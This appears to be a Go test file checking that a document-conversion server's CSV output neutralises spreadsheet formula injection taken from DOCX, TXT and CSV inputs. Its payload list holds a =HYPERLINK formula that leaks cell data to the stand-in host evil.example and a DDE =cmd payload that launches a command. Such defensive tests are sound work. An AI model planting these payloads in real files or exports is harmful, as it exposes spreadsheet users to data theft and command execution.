package server

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"html"
	"strings"
	"testing"
)

// formulaPayloads are paragraphs a hostile document carries so that its CSV output runs them
// in the reader's spreadsheet, and ordinary text that begins the same way.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
	`=cmd|' /C calc'!A0`,
	`+SUM(1,2)`,
	`@SUM(1,2)`,
	`-2+3`,
	`-5% compared with last year`,
}

// docxWith is a minimal DOCX holding one paragraph per text.
func docxWith(t *testing.T, paras []string) []byte {
	t.Helper()
	var body strings.Builder
	for _, p := range paras {
		body.WriteString(`<w:p><w:r><w:t xml:space="preserve">` + html.EscapeString(p) + `</w:t></w:r></w:p>`)
	}
	files := map[string]string{
		"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
		"_rels/.rels":         `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
		"word/document.xml":   `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` + body.String() + `</w:body></w:document>`,
	}
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for name, content := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(content))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A document's paragraph reading =HYPERLINK(…) or =cmd|…!A0 is a live formula in the CSV
// answer once a user opens it in Excel or LibreOffice. Default: the reference's bytes (clients
// parsing the CSV read the text as it is); CSVEscapeFormulas: every such cell — the attack's
// and ordinary text beginning with "-", alike — starts with a quote, the spreadsheet's mark
// for text. Single files and the merged answer of several.
func TestAttackCSVFormulaInjection(t *testing.T) {
	docx := file("formulas.docx", docxWith(t, formulaPayloads), "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
	txt := file("formulas.txt", []byte(strings.Join(formulaPayloads, "\n\n")+"\n"), "text/plain")
	// A table's text starts with its first cell: a dash kept, in a cell of its own.
	table := file("table.csv", []byte("-5%,+SUM(1;2)\n-2+3,=1+1\n"), "text/csv")
	for _, escape := range []bool{false, true} {
		srv := New(Config{InProcess: true, CSVEscapeFormulas: escape})
		for _, files := range [][]part{{docx}, {txt}, {table}, {docx, txt}} {
			rec := post(t, srv, nil, append(files, field("output_format", "text/csv"))...)
			if rec.Code != 200 {
				t.Fatalf("escape=%v: %d %s", escape, rec.Code, rec.Body)
			}
			rows, err := csv.NewReader(bytes.NewReader(rec.Body.Bytes())).ReadAll()
			if err != nil {
				t.Fatalf("escape=%v: %v", escape, err)
			}
			textCol := -1
			for i, c := range rows[0] {
				if c == "text" {
					textCol = i
				}
			}
			got := map[string]int{}
			if files[0].filename == "table.csv" {
				for _, r := range rows[1:] {
					got[r[textCol]]++
				}
				want := "-5% +SUM(1;2) -2+3 =1+1"
				if escape {
					want = "'" + want
				}
				if got[want] != 1 {
					t.Errorf("escape=%v: table text %v, want %q", escape, got, want)
				}
				continue
			}
			for _, r := range rows[1:] {
				cell := r[textCol]
				if live := cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])); live && escape {
					t.Errorf("escape=%v, %d file(s): cell %q", escape, len(files), cell)
				}
				got[cell]++
			}
			for _, p := range formulaPayloads {
				want := p
				if strings.HasPrefix(p, "-") {
					// DOCX and TXT take a leading dash for a list bullet and drop it, as the
					// reference does: "-2+3" is a ListItem "2+3", a formula in neither mode.
					want = strings.TrimPrefix(p, "-")
				} else if escape {
					want = "'" + p
				}
				if got[want] != len(files) {
					t.Errorf("escape=%v, %d file(s): %q in %d rows, want %d; cells %v", escape, len(files), want, got[want], len(files), got)
				}
			}
		}
	}
}
